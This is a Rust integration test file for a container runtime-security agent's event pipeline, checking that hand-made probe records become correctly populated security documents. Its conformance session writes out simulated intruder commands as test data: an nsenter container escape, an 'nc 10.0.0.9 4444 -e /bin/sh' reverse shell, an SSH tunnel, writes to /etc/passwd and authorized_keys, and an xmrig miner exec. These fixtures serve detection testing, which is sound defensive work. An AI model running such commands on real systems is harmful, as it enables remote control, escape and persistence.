//! Records, as the probes write them, through the runtime's whole record
//! path ([`Pipeline`]: decoding, process cache, decisions in flight,
//! documents) to documents, checked field by field and against the
//! integration's field table (`fields.txt`). No kernel: the records are
//! made by hand ([`encode`]), in the order the probes write them.
//!
//! The regression tests are named after the faults issue 12 found.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use d4c_artifact::ops::{Actions, Operation};
use d4c_kernel_probes::probes::Record;
use d4c_runtime::containers::{Metadata, Registry};
use d4c_runtime::ecs::Facts;
use d4c_runtime::event::{encode, Decision, Event};
use d4c_runtime::inflight::Decided;
use d4c_runtime::pipeline::{Context, Pipeline};
use d4c_runtime::process::Process;
use serde_json::{json, Value};

const CGROUP: u64 = 9;

fn facts() -> Facts {
    Facts {
        agent_id: "7829f26d-c2d1-4eaf-a1ac-cd9cb9e12f75".into(),
        agent_version: "0.1.0".into(),
        host: json!({"name": "node-a", "hostname": "node-a", "mac": ["32:a9:cc:26:4c:e5"], "pid_ns_ino": "4026531836",
                     "architecture": "amd64", "os": {"type": "linux"}}),
        namespace: "default".into(),
        policy_id: "drift".into(),
        policy_revision: 2,
        boot_epoch_ns: 1_795_000_000_000_000_000,
        boot_id: "b778cecd-72bf-411e-975b-eaf4d7c12d46".into(),
        ..Facts::default()
    }
}

fn container() -> Metadata {
    Metadata {
        id: "c0ffee".into(),
        name: Some("web".into()),
        image: Some("docker.io/library/nginx:1.27".into()),
        namespace: Some("shop".into()),
        pod_name: Some("web-1".into()),
        ..Metadata::default()
    }
}

/// A pipeline and what the daemon would give it.
struct Harness {
    pipeline: Pipeline,
    registry: Registry,
    facts: Facts,
    now_ns: u64,
    audit: bool,
}

impl Harness {
    fn new(proc_root: &std::path::Path) -> Harness {
        let mut registry = Registry::default();
        registry.insert(CGROUP, container());
        Harness { pipeline: Pipeline::new(1024, proc_root.into()), registry, facts: facts(), now_ns: 0, audit: false }
    }

    /// The records through the pipeline: the documents, parsed, each one
    /// checked against the field table.
    fn run(&mut self, records: &[Record]) -> Vec<Value> {
        let explain = |d: &Decision| vec![format!("{}Selector", d.operation.name())].into();
        let audit = |event: &Event, process: &Process| -> Option<Decided> {
            let task = event.task().clone();
            let (operation, name) = match event {
                Event::Exec(e) => (Operation::Exec, e.name),
                Event::Fork(_) => (Operation::Fork, task.comm),
                _ => return None,
            };
            let path = process.executable.clone().unwrap_or_default();
            let args = Some(d4c_runtime::event::Args::new(&process.args));
            let decision = Decision::audit_of(task, operation, Actions::LOG, path, name, args);
            Some(Decided { decision, matched: vec!["allProcesses".to_string()].into() })
        };
        let cx = Context {
            facts: &self.facts,
            containers: &self.registry,
            explain: &explain,
            audit: if self.audit { Some(&audit) } else { None },
            now_ns: self.now_ns,
            created_ns: 1_795_000_100_000_000_000,
        };
        let mut out = Vec::new();
        for record in records {
            self.pipeline.record(record, &cx, &mut out);
        }
        self.pipeline.expire(&cx, &mut out);
        let docs: Vec<Value> = out.iter().map(|d| serde_json::from_slice(&d.body).unwrap()).collect();
        for doc in &docs {
            let problems = d4c_runtime::fields::check(doc);
            assert!(problems.is_empty(), "{problems:#?} in {doc:#}");
        }
        docs
    }
}

fn no_proc() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

/// `pid`, running `exe` with `args` (as its exec record says), at `ns`.
fn running(pid: u32, exe: &str, args: &[&str], ns: u64) -> Record {
    let mut record = encode::exec(pid, exe, exe.rsplit('/').next().unwrap(), Some(args));
    record.head.ktime_ns = ns;
    record
}

fn at(mut record: Record, ns: u64) -> Record {
    record.head.ktime_ns = ns;
    record
}

/// Issue 12: the exec of `nsenter --target 1 ...` by a shell had the
/// shell's arguments (`process.args: ["/bin/sh", "-c", "nsenter --target 1
/// --mount true"]`): the document was made from the decision at
/// `bprm_check_security`, before the new program existed, with the process
/// cache's old entry. Now it waits for the exec record and describes the
/// new program, with the decision made before it.
#[test]
fn regression_exec_document_has_the_new_programs_arguments() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let nsenter = ["nsenter", "--target", "1", "--mount", "true"];
    let mut decision = encode::exec_decision(20, "/usr/bin/nsenter", "nsenter", &nsenter, Actions::LOG);
    decision.head.flags |= encode::INTERACTIVE;
    let mut exec = running(20, "/usr/bin/nsenter", &nsenter, 6_000_000_000);
    exec.head.flags |= encode::INTERACTIVE;
    let docs = h.run(&[
        running(20, "/bin/sh", &["/bin/sh", "-c", "nsenter --target 1 --mount true"], 5_000_000_000),
        at(decision, 5_900_000_000),
        exec,
    ]);
    assert_eq!(docs.len(), 1, "{docs:#?}");
    let doc = &docs[0];
    assert_eq!(doc["event"]["action"], "exec");
    assert_eq!(doc["event"]["type"], json!(["start"]));
    assert_eq!(doc["event"]["outcome"], "success");
    assert_eq!(doc["process"]["name"], "nsenter");
    assert_eq!(doc["process"]["executable"], "/usr/bin/nsenter");
    assert_eq!(doc["process"]["args"], json!(nsenter));
    assert_eq!(doc["process"]["args_count"], 5);
    assert_eq!(doc["process"]["command_line"], "nsenter --target 1 --mount true");
    assert_eq!(doc["process"]["interactive"], true);
    assert_eq!(
        doc["process"]["previous"],
        json!([{"executable": "/bin/sh", "args": ["/bin/sh", "-c", "nsenter --target 1 --mount true"]}])
    );
    // The decision made before it.
    assert_eq!(doc["cloud_defend"]["matched_selectors"], json!(["execSelector"]));
    assert_eq!(
        doc["cloud_defend"]["hook_point"],
        json!(["lsm__bprm_check_security", "tracepoint__sched_process_exec"])
    );
    // When the exec happened.
    assert_eq!(doc["@timestamp"], "2026-11-18T11:06:46.000Z");
}

/// Issue 12: one process's exec and end documents disagreed on
/// `process.executable` (`/bin/busybox` and `/proc/self/exe`): the exec's
/// came from the decision's resolved path, the end's from the name exec
/// was given. Both now come from the exec record's resolved path.
#[test]
fn regression_exec_and_end_documents_agree_on_the_executable() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    // busybox re-executing itself through /proc/self/exe: the kernel
    // resolves the file, /bin/busybox, for the decision and the exec.
    let docs = h.run(&[
        running(30, "/bin/busybox", &["sh"], 5_000_000_000),
        encode::exec_decision(30, "/bin/busybox", "exe", &["ls", "-l"], Actions::LOG),
        running(30, "/bin/busybox", &["ls", "-l"], 5_100_000_000),
        at(encode::lifecycle(30, encode::EXIT, 0), 5_200_000_000),
    ]);
    let exec = docs.iter().find(|d| d["event"]["action"] == "exec").unwrap();
    let end = docs.iter().find(|d| d["event"]["action"] == "end").unwrap();
    for field in ["executable", "name", "args", "entity_id", "start", "working_directory"] {
        assert_eq!(exec["process"].get(field), end["process"].get(field), "process.{field}");
    }
    assert_eq!(end["process"]["executable"], "/bin/busybox");
    assert_eq!(end["process"]["exit_code"], 0);
    assert_eq!(end["event"]["type"], json!(["end"]));
    assert_eq!(end["cloud_defend"]["hook_point"], json!(["tracepoint__sched_process_exit"]));
}

/// Issue 12: an exec document of `runc init` said `process.executable:
/// "/"`: runc re-executes a sealed copy of itself that is not reachable
/// from the task's root, whose walk gives `/`. The exec record then gives
/// the name exec was given, which the document carries.
#[test]
fn regression_runc_init_exec_document_is_not_executable_slash() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let mut decision = encode::exec_decision(40, "/", "runc:[2:INIT]", &["runc", "init"], Actions::LOG);
    decision.head.flags |= encode::TRUNCATED;
    let mut exec = running(40, "/proc/self/exe", &["runc", "init"], 5_000_000_000);
    exec.head.flags |= encode::TRUNCATED;
    let docs = h.run(&[decision, exec, at(encode::lifecycle(40, encode::EXIT, 0), 6_000_000_000)]);
    assert_eq!(docs.len(), 2, "{docs:#?}");
    for doc in &docs {
        assert_eq!(doc["process"]["executable"], "/proc/self/exe", "{}", doc["event"]["action"]);
        assert_ne!(doc["process"]["executable"], "/");
    }
    assert_eq!(docs[0]["cloud_defend"]["path_truncated"], true);
}

#[test]
fn a_refused_exec_describes_the_program_refused_with_its_arguments() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let mut refused = encode::exec_decision(50, "/tmp/xmrig", "xmrig", &["./xmrig", "-o", "pool:3333"], Actions::ALERT);
    refused.head.flags |= encode::DENIED;
    refused.head.actions = u32::from(Actions::ALERT.union(Actions::BLOCK).bits());
    let docs = h.run(&[running(50, "/bin/bash", &["bash"], 5_000_000_000), refused]);
    assert_eq!(docs.len(), 1);
    let doc = &docs[0];
    assert_eq!(doc["event"]["kind"], "alert");
    assert_eq!(doc["event"]["type"], json!(["denied"]));
    assert_eq!(doc["event"]["outcome"], "failure");
    assert_eq!(doc["process"]["executable"], "/tmp/xmrig");
    assert_eq!(doc["process"]["name"], "xmrig");
    assert_eq!(doc["process"]["args"], json!(["./xmrig", "-o", "pool:3333"]));
    assert_eq!(doc["process"]["previous"], json!([{"executable": "/bin/bash", "args": ["bash"]}]));
    assert_eq!(doc["cloud_defend"]["hook_point"], json!(["lsm__bprm_check_security"]));
    assert_eq!(doc["cloud_defend"]["blocked"], true);
    // The process itself still runs bash: its next document says so.
    let file = encode::decision(50, encode::HOOK_PATH_UNLINK, Operation::DeleteFile, "/tmp/xmrig", Actions::LOG);
    let docs = h.run(&[file]);
    assert_eq!(docs[0]["process"]["executable"], "/bin/bash");
}

#[test]
fn an_exec_that_failed_after_its_decision_says_so() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let docs = h.run(&[
        running(60, "/bin/sh", &["sh"], 5_000_000_000),
        encode::exec_decision(60, "/tmp/empty", "empty", &["/tmp/empty", "noop"], Actions::LOG),
        encode::lifecycle(60, encode::EXEC_FAILED, 8),
    ]);
    let doc = &docs[0];
    assert_eq!((&doc["event"]["type"], &doc["event"]["outcome"]), (&json!(["start"]), &json!("failure")));
    assert_eq!(doc["cloud_defend"]["errno"], 8);
    assert_eq!(doc["process"]["args"], json!(["/tmp/empty", "noop"]));
    assert_eq!(
        doc["cloud_defend"]["hook_point"],
        json!(["lsm__bprm_check_security", "tracepoint__syscalls_sys_exit_execve"])
    );
    // No end for it: it never started.
    assert!(h.run(&[encode::lifecycle(60, encode::EXIT, 0)]).is_empty());
}

#[test]
fn an_exec_whose_outcome_never_comes_is_reported_after_the_deadline() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    assert!(h.run(&[encode::exec_decision(70, "/bin/true", "true", &["true"], Actions::LOG)]).is_empty());
    h.now_ns = 5_000_000_000 + d4c_runtime::inflight::DEADLINE_NS + 1;
    let docs = h.run(&[]);
    assert_eq!(docs.len(), 1);
    assert_eq!(docs[0]["event"]["outcome"], "unknown");
    assert_eq!(docs[0]["process"]["executable"], "/bin/true");
}

#[test]
fn forks_describe_the_new_process_and_its_end_follows() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let docs = h.run(&[
        running(80, "/bin/sh", &["sh", "-i"], 5_000_000_000),
        encode::decision(80, encode::HOOK_TASK_ALLOC, Operation::Fork, "/bin/sh", Actions::LOG),
        at(encode::lifecycle(80, encode::FORK, 81), 5_500_000_000),
        at(encode::lifecycle(81, encode::EXIT, 2 << 8), 5_600_000_000),
    ]);
    assert_eq!(docs.len(), 2, "{docs:#?}");
    let (fork, end) = (&docs[0], &docs[1]);
    assert_eq!((&fork["process"]["pid"], &fork["process"]["parent"]["pid"]), (&json!(81), &json!(80)));
    assert_eq!(fork["process"]["args"], json!(["sh", "-i"]));
    assert_eq!(fork["process"]["start"], "2026-11-18T11:06:45.500Z");
    assert_eq!(fork["@timestamp"], "2026-11-18T11:06:45.500Z");
    assert_eq!((&end["process"]["pid"], &end["process"]["exit_code"]), (&json!(81), &json!(2)));
    assert_eq!(fork["process"]["entity_id"], end["process"]["entity_id"]);
}

#[test]
fn audit_mode_decides_what_happened_as_the_kernel_would() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    h.audit = true;
    let docs = h.run(&[running(90, "/usr/bin/curl", &["curl", "-s", "x"], 5_000_000_000)]);
    assert_eq!(docs.len(), 1);
    assert_eq!(docs[0]["process"]["args"], json!(["curl", "-s", "x"]));
    assert_eq!(docs[0]["cloud_defend"]["hook_point"], json!(["tracepoint__sched_process_exec"]));
    assert_eq!(docs[0]["cloud_defend"]["matched_selectors"], json!(["allProcesses"]));
}

#[test]
fn user_and_group_names_come_from_the_containers_own_files() {
    let proc = tempfile::tempdir().unwrap();
    let etc = proc.path().join("100/root/etc");
    std::fs::create_dir_all(&etc).unwrap();
    std::fs::write(etc.join("passwd"), "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\n").unwrap();
    std::fs::write(etc.join("group"), "root:x:0:\nwww-data:x:33:\n").unwrap();
    let mut h = Harness::new(proc.path());
    let mut file =
        encode::decision(100, encode::HOOK_PATH_MKNOD, Operation::CreateFile, "/var/www/x.php", Actions::LOG);
    (file.head.uid, file.head.gid) = (33, 33);
    let docs = h.run(&[file]);
    assert_eq!(docs[0]["user"], json!({"id": "33", "name": "www-data"}));
    assert_eq!(docs[0]["group"], json!({"id": "33", "name": "www-data"}));
    assert_eq!(docs[0]["process"]["user"]["id"], "33");
}

#[test]
fn every_field_of_the_seeds_tables_that_d4c_writes_is_there() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let docs = h.run(&[
        running(110, "/bin/bash", &["bash"], 5_000_000_000),
        encode::exec_decision(110, "/usr/bin/ls", "ls", &["ls", "--color=auto"], Actions::LOG.union(Actions::ALERT)),
        running(110, "/usr/bin/ls", &["ls", "--color=auto"], 5_100_000_000),
    ]);
    assert_eq!(docs.len(), 2, "an alert and a log");
    for doc in &docs {
        for pointer in [
            "/@timestamp",
            "/agent/id",
            "/agent/type",
            "/agent/version",
            "/cloud_defend/matched_selectors",
            "/cloud_defend/package_policy_id",
            "/cloud_defend/package_policy_revision",
            "/cloud_defend/hook_point",
            "/container/id",
            "/container/image/name",
            "/container/image/tag",
            "/data_stream/dataset",
            "/data_stream/namespace",
            "/data_stream/type",
            "/ecs/version",
            "/event/action",
            "/event/category",
            "/event/created",
            "/event/dataset",
            "/event/id",
            "/event/kind",
            "/event/module",
            "/event/type",
            "/group/id",
            "/host/architecture",
            "/host/mac",
            "/host/pid_ns_ino",
            "/orchestrator/namespace",
            "/orchestrator/resource/name",
            "/orchestrator/resource/type",
            "/process/args",
            "/process/entity_id",
            "/process/entry_leader/entity_id",
            "/process/entry_leader/entry_meta/type",
            "/process/entry_leader/interactive",
            "/process/entry_leader/same_as_process",
            "/process/executable",
            "/process/interactive",
            "/process/name",
            "/process/pid",
            "/process/previous/0/executable",
            "/process/start",
            "/process/user/id",
            "/user/id",
        ] {
            assert!(doc.pointer(pointer).is_some(), "{pointer} missing in {doc:#}");
        }
        assert_eq!(doc["container"]["image"]["name"], "nginx");
        assert_eq!(doc["user"]["id"], "0");
    }
}

#[test]
fn a_fileless_exec_is_its_memfd_and_makes_one_document_per_operation() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let mut memfd = encode::decision(120, encode::HOOK_BPRM_CHECK_SECURITY, Operation::ExecMemFd, "", Actions::ALERT);
    memfd.head.flags = encode::FILELESS | encode::FIRST;
    let mut exec = encode::exec_decision(120, "memfd:x", "memfd:x", &["x", "noop"], Actions::LOG);
    exec.head.flags |= encode::FILELESS | encode::SECOND;
    let mut ran = running(120, "memfd:x", &["x", "noop"], 5_100_000_000);
    ran.head.flags |= encode::TRUNCATED;
    let docs = h.run(&[running(120, "/agent", &["agent"], 5_000_000_000), memfd, exec, ran]);
    assert_eq!(docs.len(), 2, "{docs:#?}");
    let operations: Vec<&Value> = docs.iter().map(|d| &d["cloud_defend"]["operation"]).collect();
    assert_eq!(operations, [&json!("execMemFd"), &json!("exec")]);
    for doc in &docs {
        assert_eq!(doc["process"]["executable"], "memfd:x");
        assert_eq!(doc["process"]["args"], json!(["x", "noop"]));
        assert_eq!(doc["cloud_defend"]["fileless"], true);
        assert_eq!(doc.get("file"), None);
        assert_eq!(doc["event"]["action"], "exec");
    }
}

/// One step of the conformance session: the activity it belongs to and
/// its records.
type Step = (&'static str, Vec<Record>);

/// An exec by `pid` (child of `ppid`, user `uid`) of `exe` with `args`, as
/// the probes write it: the decision, then the exec record.
fn exec_by(pid: u32, ppid: u32, uid: u32, interactive: bool, exe: &str, args: &[&str], ns: u64) -> Vec<Record> {
    let name = exe.rsplit('/').next().unwrap();
    let mut records = vec![encode::exec_decision(pid, exe, name, args, Actions::LOG), running(pid, exe, args, ns)];
    for record in &mut records {
        (record.head.ppid, record.head.uid, record.head.gid) = (ppid, uid, uid);
        record.head.sid = ppid.max(1);
        if interactive {
            record.head.flags |= encode::INTERACTIVE;
        }
        record.head.ktime_ns = ns;
    }
    records
}

/// A file decision of `operation` at `path` by `pid` (user `uid`) through
/// `hook`.
fn file_by(pid: u32, uid: u32, hook: u32, operation: Operation, path: &str, part: u32, ns: u64) -> Record {
    let mut record = encode::decision(pid, hook, operation, path, Actions::LOG);
    (record.head.uid, record.head.gid, record.head.ktime_ns) = (uid, uid, ns);
    record.head.flags |= part;
    record
}

/// The session the conformance queries (`vmtest/conformance/queries.toml`)
/// run over, as the VM suite will make it for real: benign activity of a
/// web container, then an intruder's interactive shell, the tools it runs
/// and the files it writes. Its documents go to
/// `$CARGO_TARGET_TMPDIR/conformance/session.ndjson`, and which activity
/// made each (by `event.id`) to `activities.json`, for
/// `vmtest/conformance/check.py`; here each is checked against the field
/// table, and the facts the queries read are asserted on them.
#[test]
fn conformance_session_documents() {
    let proc = no_proc();
    let mut h = Harness::new(proc.path());
    let s = 1_000_000_000;
    let steps: Vec<Step> = vec![
        ("benign", exec_by(200, 1, 33, false, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], 5 * s)),
        ("benign", exec_by(201, 200, 33, false, "/bin/sh", &["sh", "-c", "cat /etc/hostname"], 6 * s)),
        (
            "benign",
            vec![file_by(
                200,
                33,
                encode::HOOK_FILE_OPEN,
                Operation::ModifyFile,
                "/var/log/nginx/access.log",
                0,
                7 * s,
            )],
        ),
        ("benign", exec_by(202, 200, 33, false, "/usr/bin/base64", &["base64", "/tmp/report"], 8 * s)),
        ("benign", exec_by(203, 200, 33, false, "/usr/bin/ssh", &["ssh", "-V"], 9 * s)),
        (
            "benign",
            vec![
                file_by(
                    200,
                    33,
                    encode::HOOK_PATH_RENAME,
                    Operation::DeleteFile,
                    "/tmp/cache.tmp",
                    encode::FIRST,
                    10 * s,
                ),
                file_by(200, 33, encode::HOOK_PATH_RENAME, Operation::CreateFile, "/tmp/cache", encode::SECOND, 10 * s),
            ],
        ),
        ("shell", exec_by(300, 1, 0, true, "/bin/bash", &["bash", "-i"], 20 * s)),
        (
            "escape",
            exec_by(301, 300, 0, true, "/usr/bin/nsenter", &["nsenter", "--target", "1", "--mount", "sh"], 21 * s),
        ),
        ("decode", exec_by(302, 300, 0, true, "/usr/bin/base64", &["base64", "-d", "/tmp/p.b64"], 22 * s)),
        ("tunnel", exec_by(303, 300, 0, true, "/usr/bin/ssh", &["ssh", "-L", "8080:db:5432", "ops@10.0.0.9"], 23 * s)),
        ("netcat", exec_by(304, 300, 0, true, "/bin/sh", &["sh", "-c", "nc 10.0.0.9 4444 -e /bin/sh"], 24 * s)),
        ("accounts", vec![file_by(300, 0, encode::HOOK_FILE_OPEN, Operation::ModifyFile, "/etc/passwd", 0, 25 * s)]),
        (
            "persistence",
            vec![file_by(
                300,
                0,
                encode::HOOK_PATH_MKNOD,
                Operation::CreateFile,
                "/root/.ssh/authorized_keys",
                0,
                26 * s,
            )],
        ),
        (
            "drift",
            vec![
                file_by(300, 0, encode::HOOK_PATH_RENAME, Operation::DeleteFile, "/tmp/kit", encode::FIRST, 27 * s),
                file_by(
                    300,
                    0,
                    encode::HOOK_PATH_RENAME,
                    Operation::CreateExecutable,
                    "/usr/local/bin/kit",
                    encode::SECOND,
                    27 * s,
                ),
            ],
        ),
    ];
    let mut session = String::new();
    let mut activities = serde_json::Map::new();
    let mut by_activity: std::collections::BTreeMap<&str, Vec<Value>> = Default::default();
    for (activity, records) in steps {
        let docs = h.run(&records);
        assert!(!docs.is_empty(), "{activity}: no documents");
        for doc in docs {
            session.push_str(&doc.to_string());
            session.push('\n');
            activities.insert(doc["event"]["id"].as_str().unwrap().to_owned(), Value::from(activity));
            by_activity.entry(activity).or_default().push(doc);
        }
    }
    // The facts the queries read, on the documents themselves.
    let escape = &by_activity["escape"][0];
    assert_eq!((&escape["process"]["name"], &escape["process"]["args"][1]), (&json!("nsenter"), &json!("--target")));
    let shell = &by_activity["shell"][0];
    assert_eq!((&shell["process"]["interactive"], &shell["process"]["args"]), (&json!(true), &json!(["bash", "-i"])));
    assert_eq!(by_activity["decode"][0]["process"]["parent"]["name"], "bash");
    let accounts = &by_activity["accounts"][0];
    assert_eq!((&accounts["event"]["action"], &accounts["event"]["type"]), (&json!("open"), &json!(["change"])));
    assert_eq!((&accounts["user"]["id"], &shell["user"]["id"]), (&json!("0"), &json!("0")));
    let drift: Vec<&Value> = by_activity["drift"].iter().map(|d| &d["event"]["type"]).collect();
    assert_eq!(drift, [&json!(["deletion"]), &json!(["creation"])]);
    assert!(by_activity["benign"].iter().all(|d| d["process"]["interactive"] == false));
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("conformance");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("session.ndjson"), session).unwrap();
    std::fs::write(dir.join("activities.json"), Value::Object(activities).to_string()).unwrap();
}
